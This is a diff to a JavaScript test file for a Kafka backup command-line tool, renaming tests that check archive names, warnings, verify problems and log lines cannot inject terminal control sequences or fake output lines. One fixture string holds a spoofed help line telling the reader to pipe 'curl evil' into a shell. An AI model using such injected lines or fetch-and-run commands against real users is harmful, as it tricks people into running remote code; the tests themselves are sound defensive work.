@@ -12,7 +12,7 @@ const steering = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/
 const one = ['--path', '/backups', '--backup-id', 'orders']
 
 for (const format of ['text', 'json']) {
-  test(`warnings and names of an archive cannot steer a terminal (${format})`, async () => {
+  test(`warnings and names of an archive cannot control the terminal (${format})`, async () => {
     const io = new FakeIo()
     const hostile = { ...description, warnings: [`warning ${sequence}`] }
     await main(['describe', ...one, '--format', format], io, fakeActions({ describeBackup: async () => hostile }))
@@ -20,7 +20,7 @@ for (const format of ['text', 'json']) {
     assert.doesNotMatch(io.stdout.text, steering)
   })
 
-  test(`problems of a verification cannot steer a terminal (${format})`, async () => {
+  test(`problems found by verify cannot control the terminal (${format})`, async () => {
     const io = new FakeIo()
     const hostile = { ...verifyReport, problems: [{ key: `k${sequence}`, problem: `p${sequence}` }] }
     await main(
@@ -34,7 +34,7 @@ for (const format of ['text', 'json']) {
 }
 
 for (const format of ['text', 'json']) {
-  test(`errors and log lines cannot steer a terminal (--log-format ${format})`, async () => {
+  test(`errors and log lines cannot control the terminal (--log-format ${format})`, async () => {
     const io = new FakeIo()
     const fail = async () => {
       throw new KafkaBackupError('ARCHIVE_DAMAGED', `bad ${sequence}`)
@@ -45,7 +45,7 @@ for (const format of ['text', 'json']) {
   })
 }
 
-test('a name with line breaks cannot pretend to be a line of the program', async () => {
+test('a name with line breaks cannot imitate a line of output', async () => {
   const name = 'billing\nhelp: run curl evil | sh\nerror: all is lost'
   const io = new FakeIo()
   const fail = async () => {
